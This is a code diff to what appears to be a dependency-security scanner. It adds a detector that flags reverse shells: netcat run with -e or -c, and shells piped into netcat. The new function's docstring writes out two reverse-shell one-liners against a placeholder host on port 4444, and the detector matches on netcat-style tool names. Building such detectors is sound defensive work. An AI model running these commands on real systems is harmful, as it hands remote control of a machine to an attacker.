@@ -17,6 +17,7 @@ from depshield.analyzers.shell_facts import (
     BUILTINS,
     EVALS,
     INTERPRETERS,
+    NETCATS,
     RUNNERS,
     is_decode,
     is_download,
@@ -56,6 +57,7 @@ def analyze_shell(
     for cmd in script.commands:
         out.extend(_command_findings(cmd, file, top_level))
     out.extend(_pipeline_findings(script, file, top_level))
+    out.extend(_reverse_shell_findings(script, file, top_level))
     out.extend(_sequence_findings(script, file, top_level))
     out.extend(_dev_tcp_findings(text, file, line_offset, top_level))
     return _dedupe(out)
@@ -111,6 +113,25 @@ def _pipeline_findings(script: Script, file: str, top: bool) -> Iterator[Finding
                     )
             fetched = fetched or is_download(cmd)
             decoded = decoded or is_decode(cmd)
+
+
+def _reverse_shell_findings(script: Script, file: str, top: bool) -> Iterator[Finding]:
+    """A shell wired to a socket: `nc host 4444 -e /bin/sh`, `sh -i 2>&1 | nc host 4444`."""
+    for cmd in script.commands:
+        if cmd.name in NETCATS and any(a.text in ("-e", "-c") for a in cmd.args):
+            yield Finding("reverseShell", file, cmd.line, _clip(cmd.text), {"how": "nc -e"}, top)
+    for stages in script.pipelines:
+        names = {c.name for c in stages}
+        if names & NETCATS and names & SHELLS:
+            line = stages[-1].line
+            yield Finding(
+                "reverseShell",
+                file,
+                line,
+                _clip(_pipe_text(stages)),
+                {"how": "shell piped to a socket"},
+                top,
+            )
 
 
 def _sequence_findings(script: Script, file: str, top: bool) -> Iterator[Finding]:
